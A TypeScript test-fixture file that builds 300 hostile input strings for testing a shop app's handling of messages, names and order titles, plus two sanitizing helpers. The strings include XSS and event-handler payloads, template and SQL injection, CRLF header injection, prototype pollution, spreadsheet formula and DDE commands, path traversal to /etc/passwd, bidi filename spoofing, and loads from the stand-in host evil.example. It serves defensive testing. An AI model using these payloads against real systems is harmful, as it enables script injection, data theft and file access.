/**
 * Hostile content of our own making: what somebody may put into a message, a name, the name of a file
 * or the title of an order. Each calls `__pwned` where it runs, or asks `evil.example` for something.
 */
const shapes: readonly (readonly [kind: string, of: (n: number) => string])[] = [
  ['script', (n) => `<script>__pwned(${n})</script>`],
  ['script', (n) => `<ScRiPt >__pwned(${n})</sCrIpT >`],
  ['script', (n) => `"></textarea></title><script>__pwned(${n})</script>`],
  ['script', (n) => `--></style></script><script>__pwned(${n})//`],
  ['script', (n) => `<<script src=//evil.example/${n}.js></script>`],
  ['handler', (n) => `<img src=x onerror=__pwned(${n})>`],
  ['handler', (n) => `<img src="x" onerror="window['__pwned'](${n})">`],
  ['handler', (n) => `<input autofocus onfocus=__pwned(${n})>`],
  ['handler', (n) => `<details open ontoggle=__pwned(${n})>点开`],
  ['handler', (n) => `<video><source onerror="__pwned(${n})"></video>`],
  ['handler', (n) => `" onmouseover="__pwned(${n})" x="`],
  ['handler', (n) => `' autofocus onfocus='__pwned(${n})`],
  ['svg', (n) => `<svg onload=__pwned(${n})>`],
  ['svg', (n) => `<svg><script>__pwned(${n})</script></svg>`],
  ['svg', (n) => `<svg><animate onbegin=__pwned(${n}) attributeName=x dur=1s></svg>`],
  ['svg', (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__pwned(${n})>`],
  ['address', (n) => `javascript:__pwned(${n})`],
  ['address', (n) => `JaVa\tScRiPt:__pwned(${n})//`],
  ['address', (n) => `data:text/html,<script>parent.__pwned(${n})</script>`],
  ['address', (n) => `<a href="javascript:__pwned(${n})">订单详情</a>`],
  ['address', (n) => `<iframe srcdoc="<script>parent.__pwned(${n})</script>"></iframe>`],
  ['address', (n) => `https://evil.example/登录?${n}&next=javascript:__pwned(${n})`],
  ['template', (n) => `{{constructor.constructor('__pwned(${n})')()}}`],
  ['template', (n) => `\${__pwned(${n})} #{__pwned(${n})} <%= __pwned(${n}) %>`],
  ['template', (n) => `{{shop.return_address}} {{ask:${n}}} {{order.no}} {%${n}%}`],
  ['entity', (n) => `&lt;script&gt;__pwned(${n})&lt;/script&gt;`],
  ['entity', (n) => `&#60;img src=x onerror=__pwned(${n})&#x3e;&nbsp;&amp;`],
  ['direction', (n) => `发票\u202Egpj.exe${n}`],
  ['direction', (n) => `\u2067${n} אבג\u2069 \u200F订单\u200E\u061C`],
  ['direction', (n) => `مرحبا، أين طلبي رقم ${n}؟`],
  ['invisible', (n) => `杯\u200B子\u200D碎\uFEFF了\u2060${n}\u00AD`],
  ['invisible', (n) => `z${'\u0301\u0327\u0336'.repeat(20)}${n}`],
  ['long', (n) => `${'W'.repeat(300 + n)}`],
  ['long', (n) => `${'\u{597d}'.repeat(300 + n)}`],
  ['long', (n) => `https://evil.example/${'a1b2c3'.repeat(60)}/${n}`],
  ['control', (n) => `杯子\u0000<script>__pwned(${n})</script>`],
  ['control', (n) => `\u001B[31m红\u001B]0;${n}\u0007\u0008\u007F`],
  ['control', (n) => `你好\r\nSet-Cookie: evil=${n}\r\n\r\n<script>__pwned(${n})</script>`],
  ['control', (n) => `\u2028半\uD83D个\uDE00字${n}\u2029\uFFFE`],
  [
    'prototype',
    (n) => ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then'][n % 5] ?? '',
  ],
  ['prototype', (n) => `{"__proto__":{"__pwned":${n}},"constructor":{"prototype":{}}}`],
  ['prototype', (n) => `__proto__[__pwned]=${n}`],
  ['style', (n) => `</style><style>*{background:url(//evil.example/${n})}</style>`],
  ['style', (n) => `<link rel=stylesheet href=//evil.example/${n}.css>`],
  ['style', (n) => `<div style="position:fixed;inset:0;z-index:9999">${n}</div>`],
  [
    'style',
    (n) =>
      `<base href=//evil.example/${n}/><meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
  ],
  ['markdown', (n) => `[查看物流](javascript:__pwned(${n}))`],
  ['markdown', (n) => `![图](https://evil.example/${n}.png) **粗** \`码\``],
  ['emoji', (n) => `👨‍👩‍👧‍👦🏳️‍🌈👍🏿${n}\uFE0F\u20E3🇨🇳`],
  ['emoji', (n) => `${'👩‍🚀'.repeat(60)}${n}`],
  ['formula', (n) => `=HYPERLINK("http://evil.example/${n}","退款")`],
  ['formula', (n) => `+cmd|' /C calc'!A${n}`],
  ['formula', (n) => `-2+3+cmd|' /C calc'!A${n}`],
  ['formula', (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`],
  ['formula', (n) => `\t=1+${n}`],
  ['formula', (n) => `\r＝1+${n}`],
  ['path', (n) => `../../../etc/passwd${n}`],
  ['path', (n) => `..\\..\\windows\\system32\\${n}.exe`],
  ['path', (n) => `CON.${n}:evil|*?<>".jpg`],
  ['query', (n) => `'; DROP TABLE lines; -- ${n} " OR NEAR(* %_`],
]

/** 300 of them, no two alike. */
export const payloads: readonly string[] = Array.from({ length: 5 }, (_, n) =>
  shapes.map(([, of]) => of(n)),
).flat()

/** One of each shape. */
export const aFewPayloads = payloads.slice(0, shapes.length)

/** As it stands on a page when it came over a wire: without what nobody can see or send. */
export const asText = (payload: string): string =>
  payload.replace(/\r\n?/g, '\n').replace(/(?![\n\t])\p{Cc}|\p{Cs}/gu, '')

/** As a name: one line, no turning of the direction, 120 letters at most. */
export const asName = (payload: string): string => {
  const plain = payload.replace(/[\p{Cc}\p{Cs}\u202a-\u202e\u2066-\u2069]/gu, '').trim()
  return Array.from(plain).slice(0, 120).join('')
}
